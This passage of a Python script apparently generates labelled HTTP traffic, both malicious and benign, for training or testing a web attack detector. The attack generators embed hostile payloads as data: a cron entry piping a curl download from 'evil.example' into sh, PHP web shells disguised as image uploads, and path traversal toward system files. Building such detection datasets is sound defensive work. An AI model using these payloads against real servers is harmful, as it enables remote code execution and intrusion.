        name = rng.choice(HEADER_SLOTS[cls])
        if name in ("Referer",):
            val = "https://www.example.com/search?q=" + (payload if url_level else enc_query(payload, rng.choice(["partial", "full", "plus"])))
        elif name == "X-Forwarded-For" and cls == "sqli" and payload[0] in "'\"":
            val = "203.0.113.%d%s" % (rng.randrange(1, 254), payload)
        else:
            val = payload
        if not header_safe(val):
            return None
        h[name] = val
        return rec(cls, "GET", rng.choice(CLASS_QUERY_PATHS[cls]), h)
    if loc == "cookie":
        val = payload if url_level else cookie_enc(payload)
        if not header_safe(val) or ";" in val:
            return None
        h["Cookie"] = "session_id=%s; %s=%s; consent=1" % (rhex(32), rng.choice(COOKIE_NAMES[cls]), val)
        return rec(cls, "GET", rng.choice(CLASS_QUERY_PATHS[cls]), h)
    raise ValueError(loc)


LOCATIONS = ["query", "query", "path", "form", "json", "multipart", "header", "cookie"]


def gen_generic(cls, bases, evasions, n, extra_prefix=None):
    combos = [(b, ev) for b in bases for ev in evasions]
    rng.shuffle(combos)
    out = []
    seen = set()
    firsts = [(b, evasions[0]) for b in bases]
    for b, (ename, efn) in firsts + combos * 3:
        if len(out) >= n:
            break
        p = efn(b)
        if p is None:
            continue
        if extra_prefix:
            p = extra_prefix(p)
        for _ in range(4):
            r = place(cls, p, rng.choice(LOCATIONS))
            if r is not None:
                break
        if r is None:
            continue
        line = dumps(r)
        if line in seen:
            continue
        seen.add(line)
        out.append(line)
    assert len(out) >= n, (cls, len(out))
    return out


def gen_traversal(n):
    out, seen = [], set()
    while len(out) < n:
        kind = rng.choices(["unix", "win", "app", "abs", "upload"], [6, 2, 2, 1.5, 1])[0]
        depth = rng.randrange(3, 9)
        suffix = rng.choice(["", "", "", "%00", "%00.png", "%00.html"])
        loc = rng.choice(LOCATIONS)
        if kind == "upload":
            seq = rng.choice(["../", "..\\", "....//"])
            fname = seq * depth + rng.choice(TRAV_UPLOAD_TARGETS)
            content = rng.choice(["* * * * * root curl http://evil.example/p | sh\n", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + ralnum(43) + " x@y\n", "<h1>owned</h1>\n"])
            h = base_headers()
            ct, body = multipart([("folder", "docs")], [("file", fname, "application/octet-stream", content)])
            h["Content-Type"] = ct
            r = rec("traversal", "POST", rng.choice(["/api/v1/attachments", "/upload", "/api/v1/users/42/avatar"]), h, body)
        elif kind == "abs":
            p = rng.choice(TRAV_ABSOLUTE)
            if loc in ("query", "form", "path", "cookie"):
                p = quote(p, safe=":/\\" if rng.random() < 0.5 else "")
                if loc == "path":
                    loc = "query"
                r = place("traversal", p, loc, url_level=True)
            else:
                r = place("traversal", p, loc)
        else:
            if kind == "unix":
                target, seqs = rng.choice(TRAV_UNIX_TARGETS), TRAV_SEQS_UNIX
            elif kind == "win":
                target, seqs = rng.choice(TRAV_WIN_TARGETS), TRAV_SEQS_WIN
            else:
                target, seqs = rng.choice(TRAV_APP_TARGETS), TRAV_SEQS_UNIX[:6]
            if loc in ("json", "multipart", "header") or loc == "cookie" and rng.random() < 0.5:
                # decoded forms for places that are not URL-decoded
                seq = rng.choice(["../", "../", "..\\" if kind == "win" else "../", "....//"])
                if loc == "header" and rng.random() < 0.3:
                    seq = "..%2f"  # e.g. X-Original-URL, which the backend treats as a URL
                if kind == "win" and "\\" in seq:
                    target = target.replace("/", "\\")
                url_level = loc == "cookie"
            else:
                seq = rng.choice(seqs)
                url_level = True
                if kind == "win" and "\\" in seq or "%5c" in seq.lower():
                    target = target.replace("/", "\\" if "\\" in seq else ("%255c" if "%255c" in seq.lower() else "%5c"))
            lead = rng.choice(["", "", "images/", "docs/", "./"]) if loc != "path" else ""
            p = lead + seq * depth + target + (suffix if url_level else "")
            if loc == "path" and p.startswith("../") and rng.random() < 0.5:
                p = "..%2f" + p[3:]
            r = place("traversal", p, loc, url_level=url_level)
        if r is None:
            continue
        line = dumps(r)
        if line not in seen:
            seen.add(line)
            out.append(line)
    return out


def gen_cmdi(n):
    out, seen = [], set()
    combos = [(b, ev, False) for b in CMDI_UNIX for ev in CMDI_EVASIONS] + \
             [(b, ev, True) for b in CMDI_WIN for ev in CMDI_WIN_EVASIONS]
    rng.shuffle(combos)
    firsts = [(b, CMDI_EVASIONS[0], False) for b in CMDI_UNIX] + [(b, CMDI_WIN_EVASIONS[0], True) for b in CMDI_WIN]
    for b, (ename, efn), win in firsts + combos * 3:
        if len(out) >= n:
            break
        p = efn(b)
        if p is None:
            continue
        param = rng.choice(CLASS_PARAMS["cmdi"])
        prefix = rng.choice(CMDI_PREFIXES[param])
        if p[0] in "$`" and prefix == "":
            prefix = rng.choice(["", "x"])
        p = prefix + p if (p[0] not in " ;|&\n\r" or prefix == "") else prefix + (p if rng.random() < 0.5 else p.lstrip(" "))
        r = None
        for _ in range(4):
            r = place("cmdi", p, rng.choice(LOCATIONS))
            if r is not None:
                break
        if r is None:
            continue
        line = dumps(r)
        if line not in seen:
            seen.add(line)
            out.append(line)
    assert len(out) >= n
    return out


def gen_php(n):
    out = gen_generic("php", PHP, PHP_EVASIONS, n - 30)
    seen = set(out)
    shells = ["<?php system($_GET['c']); ?>", "<?php eval($_POST['pass']); ?>", "<?php echo shell_exec($_REQUEST['q']); ?>",
              "<?= passthru($_GET['x']) ?>", "<?php @eval(base64_decode($_POST['d'])); ?>"]
    names = [("shell.php", "application/x-php"), ("avatar.php.jpg", "image/jpeg"), ("image.phtml", "image/png"),
             ("x.php5", "application/octet-stream"), ("photo.jpg.php", "image/jpeg"), (".htaccess.php", "text/plain")]
    while len(out) < n:
        fname, ctype = rng.choice(names)
        shell = rng.choice(shells)
        if rng.random() < 0.4:
            shell = "GIF89a;\n" + shell
        if rng.random() < 0.3:
            shell = php_mixed(shell) or shell
        h = base_headers()
        ct, body = multipart([("user_id", str(rng.randrange(1, 900)))], [("avatar", fname, ctype, shell)])
        h["Content-Type"] = ct
        r = rec("php", "POST", rng.choice(["/api/v1/users/me/avatar", "/upload.php", "/wp-content/plugins/gallery/upload.php", "/api/v1/media"]), h, body)
        line = dumps(r)
        if line not in seen:
            seen.add(line)
            out.append(line)
    return out


# --------------------------------------------------------------------------
# Benign traffic (hand-written word lists and templates)
# --------------------------------------------------------------------------

FIRST = ["Liam", "Olivia", "Noah", "Emma", "Aiden", "Sofia", "Mateo", "Amara", "Yuki", "Wei", "Fatima", "Omar",
         "Chloé", "Zoë", "José", "François", "Siobhan", "Niamh", "Priya", "Arjun", "Hana", "Lukas", "Ingrid",
         "Dmitri", "Ana", "Kwame", "Aroha", "Mei", "Santiago", "Léa"]
LAST = ["O'Brien", "D'Angelo", "O'Neil", "D'Souza", "O'Connor", "Smith", "García", "Müller", "Nguyễn", "Tanaka",
        "Kowalski", "Al-Farsi", "McAllister", "van der Berg", "Okafor", "Rossi", "Dubois", "Johansson", "Ó Súilleabháin",
        "Chen", "Patel", "Kim", "Fernández", "Björk", "L'Estrange", "N'Diaye", "Smith-Jones"]
CITIES = ["Dublin", "Portland", "São Paulo", "Kyoto", "Cairo", "Zürich", "Union City", "Salt Lake City",
          "St. John's", "Coeur d'Alene", "Montréal", "Nairobi", "Auckland", "Reykjavík"]
STREETS = ["O'Connell Street", "Main St.", "Union Station Rd", "1st Ave", "Rue de l'Église", "Baker Street",
           "Calle Mayor", "Elm & 5th", "Old Mill Lane", "Shell Beach Dr"]
PRODUCTS = ["cat food", "echo dot", "USB-C cable", "standing desk", "ping pong table", "sleep mask", "shell jacket",
            "union suit", "drop-leaf table", "script notebook", "alert whistle", "benchmark scale", "table lamp",
            "noise cancelling headphones", "cast iron skillet", "trail running shoes", "yoga mat", "espresso machine",
            "mechanical keyboard", "4K monitor", "kids' rain boots", "men's shirt 15.5\"", "women's jeans 28x30"]
SEARCH_PHRASES = [
    "select the best option", "drop me a line", "union station", "update your profile", "where is my order",
    "cat food", "echo dot", "how to delete my account", "insert coin", "order by phone", "script writing tips",
    "alert settings not working", "exec summary template", "shell beach hotels", "ping pong table", "sleep mask",
    "benchmark results 2024", "having trouble logging in", "1 or 2 people", "rock & roll", "Tom & Jerry",
    "50% off", "C++ tutorial", "what's new", "it's 5 o'clock somewhere", "between 10 and 20 dollars",
    "null and void meaning", "from A to Z", "table for two", "system requirements", "eval copy of windows",
    "where can I find O'Brien's pub", "McDonald's near me", "best sci-fi books (2023)", "size 10 1/2",
    "is it cheaper to buy or rent?", "wine & cheese", "top 10 \"must read\" novels", "waiting for delivery",
    "select all that apply", "drop shipping", "union jack flag", "update firmware", "where to buy", "sleep tips",
    "command center", "run for president", "exit survey", "path of exile", "file a complaint", "script font",
    "java vs kotlin", "iframe vs div", "php developer jobs", "how do I reset my password", "etc etc",
    "curl hair products", "wget meaning", "bash birthday party", "cat videos", "grep for beginners",
    "1+1", "2 + 2 = 4", "x < y", "a & b", "Q&A session", "50/50 chance", "#1 best seller", "email@domain question",
    "déjà vu", "naïve café", "北京 天气", "東京 ラーメン", "مطاعم في دبي", "🍕 near me", "cheap flights ✈️",
    "ソニー ヘッドホン", "手机壳", "سماعات لاسلكية", "Straße", "crème brûlée recipe", "Ω resistor",
]
REVIEWS = [
    "I'd say it's \"the best\" cat food we've tried — our cat won't eat anything else!",
    "Arrived late, but customer service was great. 4/5.",
    "Don't buy the 2-pack; it's cheaper to get them separately.",
    "My husband said \"meh\" at first... now he uses it every day :)",
    "Works with my Echo Dot out of the box. Setup took < 5 minutes.",
    "Size runs small. I'm 5'11\" and the L was too tight.",
    "10/10 would recommend!!! <3",
    "Not bad for the price (around $30), though the strap broke after 3 months.",
    "Select the \"quiet\" mode or it's really loud.",
    "It's O'Brien's favourite — we ordered a second one for D'Angelo's office.",
    "Drop me a line if you want to know which color I picked; the \"sand\" one is lovely.",
    "Battery life: ~8 hrs. Charging: 2 hrs. Overall: 👍",
    "Great keyboard & the keycaps feel solid. Would update the firmware first though.",
    "The manual says 'do not submerge', so don't — learned that the hard way.",
    "Colour was exactly as pictured. Fast shipping to Zürich.",
    "Good value. Packaging could be better; one corner was crushed.",
    "とても良い商品です。また買います！",
    "质量很好，物流也很快。",
    "منتج رائع وسعر مناسب",
    "Where is my order? It's been 2 weeks... update: it arrived today, all good.",
]
COMMENTS = [
    "Thanks for the write-up! One question: does this work with **Python 3.12**?",
    "> Where is the config file?\n\nIt's in `~/.config/app/settings.toml` on Linux.",
    "Great post. See also [the docs](https://docs.example.com/guide?section=install&v=2).",
    "- step 1: open settings\n- step 2: select *Advanced*\n- step 3: save",
    "I tried `max_connections = 200` and it helped a lot.",
    "Agreed 100%. Also: don't forget to back up before you update.",
    "lol this is exactly what happened to me last week 😂",
    "Can you drop the slides somewhere? Would love to share them with the team.",
    "## Summary\n\nWorks fine, but the docs could use an example for the `--verbose` flag.",
    "Is there a union type in TypeScript for this? e.g. `string | number`?",
    "Here's my attempt:\n\n```js\nif (a < b) { return; }\n```\n\nDoes that look right?",
    "In Rust you'd write `let v: Vec<u8> = Vec::with_capacity(1024);` instead.",
    "Try:\n\n```python\nx = [i * i for i in range(10) if i % 2 == 0]\n```",
    "My loop: `for (let i = 0; i < n; i++) { total += xs[i]; }` is that O(n)?",
    "fn add(a: i32, b: i32) -> i32 { a + b } works for me.",
    "Use `Map<String, List<Integer>> index = new HashMap<>();` in Java 8+.",
    "The condition `a && b || !c` confused me at first.",
    "Remember `#include <stdio.h>` before calling printf.",
    "Rebase with `git rebase -i HEAD~3` then force-push your branch.",
    "while (queue.length > 0) { const node = queue.shift(); visit(node); }",
    "def area(r):\n    return 3.14159 * r ** 2",
    "Price went from $19.99 to $24.99 — that's a 25% increase!",
    "C'est très bien expliqué, merci !",
    "非常有用的文章，谢谢分享！",
    "ありがとうございます。とても参考になりました。",
    "شكراً على المقال المفيد 🙏",
]
EMAIL_DOMAINS = ["example.com", "example.org", "mail.example.net", "company.example", "uni.example.edu"]
STATUSES = ["active", "pending", "shipped", "delivered", "cancelled", "refunded", "draft"]
SORTS = ["created_at", "-created_at", "name", "-price", "price", "updated_at", "rating", "-rating"]
RESOURCES = ["users", "orders", "products", "invoices", "customers", "tickets", "projects", "teams", "articles", "carts"]
SUBRES = ["orders", "items", "comments", "addresses", "payments", "members", "events", "notes", "attachments"]
STATIC = ["/static/js/app.{h}.js", "/static/js/vendor.{h}.js", "/static/css/main.{h}.css", "/assets/img/logo.{h}.svg",
          "/static/fonts/inter-{w}.{h}.woff2", "/assets/img/products/{n}.webp", "/favicon.ico", "/robots.txt",
          "/static/js/chunk-{n}.{h}.js", "/manifest.webmanifest", "/images/banner-{n}@2x.png"]
DOCS = ["/docs/getting-started.html", "/docs/api/authentication.html", "/docs/guides/rate-limits.html",
        "/docs/faq.html", "/blog/2024/05/union-station-renovation", "/blog/how-to-select-the-right-plan",
        "/help/articles/update-your-profile", "/help/where-is-my-order", "/legal/privacy", "/about",
        "/docs/api/v2/errors.html#e-4001", "/careers/senior-backend-engineer", "/pricing", "/changelog"]


def email():
    f = rng.choice(FIRST).lower().replace("é", "e").replace("ë", "e").replace("ç", "c")
    l = rng.choice(["obrien", "dangelo", "smith", "garcia", "mueller", "tanaka", "chen", "patel", "kim", "rossi"])
    sep = rng.choice([".", "_", "", "+shop."])
    return "%s%s%s%s@%s" % (f, sep, l, rng.choice(["", str(rng.randrange(1, 99))]), rng.choice(EMAIL_DOMAINS))


def phone():
    return rng.choice(["+1 (503) 555-%04d", "+44 20 7946 %04d", "+353 1 555 %04d", "+81 3-5555-%04d", "555-%04d"]) % rng.randrange(0, 10000)


def iso_ts():
    t = 1704067200 + rng.randrange(0, 20000000)
    # simple deterministic conversion without time zone databases
    import datetime
    d = datetime.datetime.fromtimestamp(t, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + rng.choice(["Z", "+00:00", ".%03dZ" % rng.randrange(1000), "+09:00", "-05:00"])


def price():
    return round(rng.randrange(199, 99999) / 100.0, 2)


def qenc(v):
    return quote_plus(v, safe="") if rng.random() < 0.6 else quote(v, safe="")


def with_cookie(h):
    if rng.random() < 0.35:
        h["Cookie"] = "session_id=%s; csrftoken=%s%s" % (
            rhex(32), ralnum(32), rng.choice(["", "; theme=dark", "; lang=en-US", "; _ga=GA1.2.%d.%d" % (rng.randrange(10**9), rng.randrange(10**9))]))
    if rng.random() < 0.2:
        h["Referer"] = rng.choice(["https://www.example.com/", "https://shop.example.com/cart", "https://app.example.com/dashboard?tab=orders",
                                   "https://www.google.com/", "https://docs.example.com/getting-started.html"])
    if rng.random() < 0.25:
        h["X-Request-Id"] = ruuid()
    return h


def b_rest_get():
    res = rng.choice(RESOURCES)
    ident = rng.choice([str(rng.randrange(1, 100000)), ruuid(), "me", "%s_%s" % (res[:3], ralnum(14))])
    style = rng.randrange(4)
    if style == 0:
        uri = "/api/v%d/%s/%s" % (rng.randrange(1, 4), res, ident)
    elif style == 1:
        uri = "/api/v1/%s/%s/%s" % (res, ident, rng.choice(SUBRES))
        uri += "?" + "&".join(["page=%d" % rng.randrange(1, 50), "per_page=%d" % rng.choice([10, 20, 25, 50, 100]),
                               "sort=%s" % rng.choice(SORTS)][:rng.randrange(1, 4)])
    elif style == 2:
        params = ["status=%s" % rng.choice(STATUSES), "created_after=%s" % qenc(iso_ts()),
                  "limit=%d" % rng.choice([10, 25, 50]), "fields=%s" % rng.choice(["id,name,email", "id%2Ctotal%2Cstatus", "*"]),
                  "include=%s" % rng.choice(["items", "customer,items", "owner"]), "order=%s" % rng.choice(["asc", "desc"]),
                  "filter[status]=%s" % rng.choice(STATUSES), "filter%%5Bmin_total%%5D=%d" % rng.randrange(10, 500),
                  "cursor=%s" % b64url(json.dumps({"id": rng.randrange(10**6), "ts": rng.randrange(10**9)}).encode()),
                  "ids=%s" % ",".join(str(rng.randrange(1, 9999)) for _ in range(rng.randrange(2, 6)))]
        rng.shuffle(params)
        uri = "/api/v1/%s?%s" % (res, "&".join(params[:rng.randrange(1, 5)]))
    else:
        uri = "/api/v2/%s/%s/%s/%d" % (res, ident, rng.choice(SUBRES), rng.randrange(1, 5000))
    h = with_cookie(base_headers())
    if rng.random() < 0.15:
        h["If-None-Match"] = '"%s"' % rhex(16)
    return rec(None, "GET", uri, h)


def b_search():
    phrase = rng.choice(SEARCH_PHRASES)
    if rng.random() < 0.3:
        phrase = rng.choice([phrase.capitalize(), phrase + " " + rng.choice(PRODUCTS), rng.choice(PRODUCTS)])
    path = rng.choice(["/search", "/api/v1/search", "/api/v1/products/search", "/help/search", "/api/v2/suggest"])
    params = ["q=" + qenc(phrase)]
    params += rng.sample(["page=%d" % rng.randrange(1, 9), "lang=%s" % rng.choice(["en", "de", "ja", "zh", "ar"]),
                          "category=%s" % rng.choice(["pets", "electronics", "home", "books", "apparel"]),
                          "sort=%s" % rng.choice(["relevance", "price_asc", "-rating"]), "in_stock=true",
                          "price_min=%d&price_max=%d" % (rng.randrange(0, 50), rng.randrange(60, 500))], rng.randrange(0, 3))
    return rec(None, "GET", path + "?" + "&".join(params), with_cookie(base_headers()))


def b_static():
    tpl = rng.choice(STATIC + DOCS)
    uri = tpl.format(h=rhex(rng.choice([4, 8, 20])), n=rng.randrange(1, 400), w=rng.choice([400, 500, 700]))
    if rng.random() < 0.1:
        uri += "?v=" + rhex(8)
    acc = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" if "/docs" in uri or "/blog" in uri or "/help" in uri \
        else rng.choice(["*/*", "image/avif,image/webp,*/*", "text/css,*/*;q=0.1"])
    h = {"User-Agent": rng.choice(USER_AGENTS[:6]), "Accept": acc, "Accept-Encoding": "gzip, deflate, br"}
    return rec(None, "GET", uri, with_cookie(h))


def b_login():
    h = base_headers("text/html,application/xhtml+xml")
    h.pop("Authorization", None)
    h["Content-Type"] = "application/x-www-form-urlencoded"
    pw = ralnum(rng.randrange(10, 18)) + rng.choice(["!", "#", "$", "&", "?", "_", "."]) + str(rng.randrange(10, 99))
    user = rng.choice([email(), rng.choice(FIRST).lower() + str(rng.randrange(1, 999)), "%s %s" % (rng.choice(FIRST), rng.choice(LAST))])
    body = "username=%s&password=%s&remember_me=%s&csrf_token=%s" % (quote_plus(user), quote_plus(pw), rng.choice(["on", "0"]), ralnum(40))
    return rec(None, "POST", rng.choice(["/login", "/account/login", "/auth/session"]), with_cookie(h), body)


def b_signup():
    first, last = rng.choice(FIRST), rng.choice(LAST)
    data = {"first_name": first, "last_name": last, "email": email(), "phone": phone(),
            "password": ralnum(14) + "!" + str(rng.randrange(10, 99)),
            "address": {"line1": "%d %s" % (rng.randrange(1, 999), rng.choice(STREETS)), "city": rng.choice(CITIES),
                        "postal_code": "%05d" % rng.randrange(100000), "country": rng.choice(["US", "IE", "JP", "DE", "BR", "EG", "NZ"])},
            "marketing_opt_in": rng.random() < 0.5, "referral_code": rng.choice([None, ralnum(8).upper()])}
    h = base_headers()
    h.pop("Authorization", None)
    if rng.random() < 0.5:
        h["Content-Type"] = "application/json"
        return rec(None, "POST", "/api/v1/users", with_cookie(h), json.dumps(data, ensure_ascii=False))
    h["Content-Type"] = "application/x-www-form-urlencoded"
    form = [("first_name", first), ("last_name", last), ("email", data["email"]), ("phone", data["phone"]),
            ("city", data["address"]["city"]), ("terms", "accepted")]
    return rec(None, "POST", "/signup", with_cookie(h), "&".join("%s=%s" % (k, quote_plus(v)) for k, v in form))


def b_checkout():
    items = [{"sku": "%s-%04d" % (rng.choice(["CAT", "ECH", "DSK", "USB", "SHO"]), rng.randrange(10000)),
              "name": rng.choice(PRODUCTS), "qty": rng.randrange(1, 5), "unit_price": price()} for _ in range(rng.randrange(1, 5))]
    data = {"cart_id": ruuid(), "currency": rng.choice(["USD", "EUR", "JPY", "GBP"]), "items": items,
            "shipping": {"name": "%s %s" % (rng.choice(FIRST), rng.choice(LAST)), "street": "%d %s" % (rng.randrange(1, 999), rng.choice(STREETS)),
                         "city": rng.choice(CITIES), "instructions": rng.choice(["", "Leave at the back door & ring twice", "Call 30 min before", "Gate code: #4521", "It's the blue house; don't mind the dog!"])},
            "payment": {"method": rng.choice(["card", "paypal", "apple_pay"]), "token": "tok_" + ralnum(24)},
            "coupon": rng.choice([None, "SPRING10", "WELCOME-5", "BLACKFRIDAY"]), "placed_at": iso_ts()}
    h = with_cookie(base_headers())
    h["Content-Type"] = "application/json"
    h["Idempotency-Key"] = ruuid()
    return rec(None, "POST", rng.choice(["/api/v1/checkout", "/api/v2/orders"]), h, json.dumps(data, ensure_ascii=False))


def b_review():
    data = {"rating": rng.randrange(1, 6), "title": rng.choice(["Love it", "Meh", "Does what it says", "Five stars ★★★★★", "Not for me", "Good, not great"]),
            "body": rng.choice(REVIEWS), "author": "%s %s" % (rng.choice(FIRST), rng.choice(LAST)[0] + "."), "verified_purchase": rng.random() < 0.7}
    h = with_cookie(base_headers())
    h["Content-Type"] = "application/json"
    return rec(None, "POST", "/api/v1/products/%d/reviews" % rng.randrange(1, 20000), h, json.dumps(data, ensure_ascii=False))


def b_comment_form():
    h = with_cookie(base_headers("text/html"))
    h["Content-Type"] = "application/x-www-form-urlencoded"
    body = "thread_id=%d&author=%s&body=%s&notify=%s" % (rng.randrange(1, 9000), quote_plus("%s %s" % (rng.choice(FIRST), rng.choice(LAST))),
                                                         quote_plus(rng.choice(COMMENTS + REVIEWS)), rng.choice(["1", "0"]))
    return rec(None, "POST", rng.choice(["/forum/reply", "/comments", "/community/posts/%d/comments" % rng.randrange(1, 5000)]), h, body)


def b_forum_json():
    data = {"title": rng.choice(["Help with loops", "Why does my build fail?", "Union types question", "Best way to select a DB?",
                                 "Tip: drop-in replacement for moment.js", "Echo server example", "Update: v2 migration notes"]),
            "body_markdown": rng.choice(COMMENTS), "tags": rng.sample(["rust", "python", "javascript", "java", "help", "performance", "beginner"], 2)}
    h = with_cookie(base_headers())
    h["Content-Type"] = "application/json"
    return rec(None, rng.choice(["POST", "PUT"]), "/api/v1/forum/threads" + rng.choice(["", "/%d" % rng.randrange(1, 90000)]), h, json.dumps(data, ensure_ascii=False))


def b_upload():
    kind = rng.choice(["csv", "txt", "csv"])
    if kind == "csv":
        rows = ["id,name,email,city,amount"]
        for i in range(rng.randrange(2, 7)):
            rows.append('%d,"%s %s",%s,"%s",%.2f' % (i + 1, rng.choice(FIRST), rng.choice(LAST), email(), rng.choice(CITIES), price()))
        content, fname, ctype = "\r\n".join(rows), rng.choice(["contacts.csv", "export-2024-05.csv", "orders (1).csv"]), "text/csv"
    else:
        content = "\n".join(rng.sample(REVIEWS + COMMENTS, 3))
        fname, ctype = rng.choice(["notes.txt", "README.txt", "meeting notes.txt"]), "text/plain"
    h = with_cookie(base_headers())
    ct, body = multipart([("description", rng.choice(["Q2 import", "Customer list — do not share", "notes from Tuesday's call"])),
                          ("folder_id", str(rng.randrange(1, 500)))], [("file", fname, ctype, content)])
    h["Content-Type"] = ct
    return rec(None, "POST", rng.choice(["/api/v1/imports", "/api/v1/files", "/upload"]), h, body)


def b_oauth():
    redirect = rng.choice(["https://example.com/a?b=c", "https://app.example.com/callback", "https://shop.example.org/return?order=%d&status=ok" % rng.randrange(9999),
                           "com.example.app://oauth", "http://localhost:3000/auth/callback"])
    params = "response_type=code&client_id=%s&redirect_uri=%s&scope=%s&state=%s" % (
        ralnum(20), quote(redirect, safe="") if rng.random() < 0.7 else redirect.replace("&", "%26"),
        quote("openid profile email"), ralnum(16))
    if rng.random() < 0.5:
        params += "&code_challenge=%s&code_challenge_method=S256" % b64url(hashlib.sha256(rbytes(16)).digest())
    return rec(None, "GET", "/oauth/authorize?" + params, with_cookie(base_headers("text/html")))


def b_webhook():
    payload = {"id": "evt_" + ralnum(24), "type": rng.choice(["payment.succeeded", "order.updated", "customer.created", "invoice.paid"]),
               "created": rng.randrange(1700000000, 1720000000),
               "data": {"object": {"id": rng.choice(["pi_", "ord_", "cus_"]) + ralnum(14), "amount": rng.randrange(100, 100000),
                                   "metadata": {"note": rng.choice(["", "gift wrap please", "2nd attempt", "ref #%d" % rng.randrange(9999)])},
                                   "url": "https://example.com/orders/%d?ref=webhook" % rng.randrange(99999)}}}
    body = json.dumps(payload)
    sig = hashlib.sha256(body.encode() + rbytes(8)).hexdigest()
    h = {"User-Agent": rng.choice(["Stripe/1.0 (+https://stripe.com/docs/webhooks)", "GitHub-Hookshot/a1b2c3d", "PaymentsProvider-Webhooks/2.1"]),
         "Content-Type": "application/json", rng.choice(["X-Signature", "X-Hub-Signature-256", "Webhook-Signature"]): "sha256=" + sig,
         "X-Webhook-Timestamp": str(rng.randrange(1700000000, 1720000000))}
    return rec(None, "POST", "/webhooks/" + rng.choice(["payments", "github", "orders"]), h, body)


def b_signed_url():
    exp = rng.randrange(1700000000, 1720000000)
    uri = "/media/%s/%s.%s?expires=%d&signature=%s&key_id=%s" % (ruuid(), rng.choice(["invoice", "photo", "report"]), rng.choice(["pdf", "jpg", "png"]), exp,
                                                                rhex(64) if rng.random() < 0.5 else quote(base64.b64encode(rbytes(32)).decode(), safe=""), ralnum(10))
    return rec(None, "GET", uri, with_cookie(base_headers("*/*")))


def b_patch_put_delete():
    m = rng.choice(["PATCH", "PUT", "DELETE", "DELETE"])
    res = rng.choice(RESOURCES)
    uri = "/api/v1/%s/%s" % (res, rng.choice([str(rng.randrange(1, 99999)), ruuid()]))
    h = with_cookie(base_headers())
    h["Authorization"] = "Bearer " + jwt()
    if m == "DELETE":
        return rec(None, m, uri + rng.choice(["", "?soft=true", "?reason=" + quote_plus("duplicate entry")]), h)
    data = rng.choice([{"status": rng.choice(STATUSES)}, {"nickname": "%s %s" % (rng.choice(FIRST), rng.choice(LAST)), "bio": rng.choice(REVIEWS[:8])},
                       {"settings": {"notifications": {"email": True, "sms": False}, "timezone": rng.choice(["Europe/Dublin", "Asia/Tokyo", "America/New_York"])}},
                       {"tags": rng.sample(["vip", "wholesale", "union member", "select tier", "beta"], 2), "updated_at": iso_ts()}])
    h["Content-Type"] = "application/json"
    return rec(None, m, uri, h, json.dumps(data, ensure_ascii=False))


def b_graphql():
    q = rng.choice(["query GetUser($id: ID!) { user(id: $id) { id name email orders(first: 5) { edges { node { id total } } } } }",
                    "query { products(first: 20, where: {category: \"pets\"}) { id name price } }",
                    "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id displayName } }",
                    "query Search($q: String!) { search(query: $q) { ... on Product { id name } } }"])
    data = {"query": q, "variables": rng.choice([{"id": str(rng.randrange(1, 9999))}, {"q": rng.choice(SEARCH_PHRASES)},
                                                 {"input": {"displayName": "%s %s" % (rng.choice(FIRST), rng.choice(LAST))}}, {}])}
    h = with_cookie(base_headers())
    h["Content-Type"] = "application/json"
    return rec(None, "POST", "/graphql", h, json.dumps(data, ensure_ascii=False))


def b_contact_form():
    h = with_cookie(base_headers("text/html"))
    h["Content-Type"] = "application/x-www-form-urlencoded"
    msg = rng.choice(["Hi, where is my order #%d? It's been a week." % rng.randrange(10000, 99999),
                      "Please drop me a line at %s or call %s." % (email(), phone()),
                      "I'd like to update my profile but the \"Save\" button doesn't work (Safari 17).",
                      "Can I select a different delivery date? Between Mon & Wed would be ideal.",
                      "My name is %s %s; my account email changed to %s." % (rng.choice(FIRST), rng.choice(LAST), email()),
                      "Do you ship cat food to %s? 20%% discount code didn't apply." % rng.choice(CITIES)])
    body = "name=%s&email=%s&subject=%s&message=%s" % (quote_plus("%s %s" % (rng.choice(FIRST), rng.choice(LAST))), quote_plus(email()),
                                                       quote_plus(rng.choice(["Order question", "Billing", "Feedback & ideas", "Help!"])), quote_plus(msg))
    return rec(None, "POST", "/contact", h, body)


def b_unicode():
    phrase = rng.choice(["北京 天气", "東京 ラーメン", "مطاعم في دبي", "🍕 near me", "寿司 予約", "上海到北京的火车", "كتب عربية", "カフェ 渋谷",
                         "😀😃😄", "Ελληνικά", "Москва кафе", "서울 맛집", "नमस्ते दुनिया", "ça va?"])
    style = rng.randrange(3)
    if style == 0:
        return rec(None, "GET", "/api/v1/search?q=%s&lang=%s" % (quote(phrase), rng.choice(["zh", "ja", "ar", "ko"])), with_cookie(base_headers()))
    if style == 1:
        h = with_cookie(base_headers())
        h["Content-Type"] = "application/json"
        return rec(None, "POST", "/api/v1/messages", h, json.dumps({"to": "u_%d" % rng.randrange(999), "text": phrase + " " + rng.choice(COMMENTS[-4:])}, ensure_ascii=rng.random() < 0.3))
    return rec(None, "GET", "/tags/%s" % quote(phrase.split()[0]), with_cookie(base_headers("text/html")))


def b_misc_headers():
    h = base_headers()
    h["Authorization"] = rng.choice(["Bearer " + jwt(), "Basic " + base64.b64encode(("%s:%s" % (rng.choice(FIRST).lower(), ralnum(12))).encode("utf-8")).decode(),
                                     "ApiKey " + ralnum(32)])
    h["X-Forwarded-For"] = "%d.%d.%d.%d, 10.0.%d.%d" % (rng.randrange(1, 223), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255), rng.randrange(256), rng.randrange(1, 255))
    if rng.random() < 0.5:
        h["X-Forwarded-Proto"] = "https"
    if rng.random() < 0.4:
        h["Cache-Control"] = rng.choice(["no-cache", "max-age=0"])
    if rng.random() < 0.3:
        h["X-Client-Version"] = "%d.%d.%d" % (rng.randrange(1, 6), rng.randrange(20), rng.randrange(50))
    return rec(None, "GET", "/api/v1/%s?updated_since=%d" % (rng.choice(RESOURCES), rng.randrange(1700000000, 1720000000)), with_cookie(h))


def b_names_query():
    name = "%s %s" % (rng.choice(FIRST), rng.choice(LAST))
    return rec(None, "GET", "/api/v1/customers?name=%s&email=%s&phone=%s" % (qenc(name), quote(email()), quote(phone())), with_cookie(base_headers()))


BENIGN_TEMPLATES = [(b_rest_get, 16), (b_search, 12), (b_static, 10), (b_login, 5), (b_signup, 6), (b_checkout, 6),
                    (b_review, 6), (b_comment_form, 6), (b_forum_json, 4), (b_upload, 4), (b_oauth, 3), (b_webhook, 3),
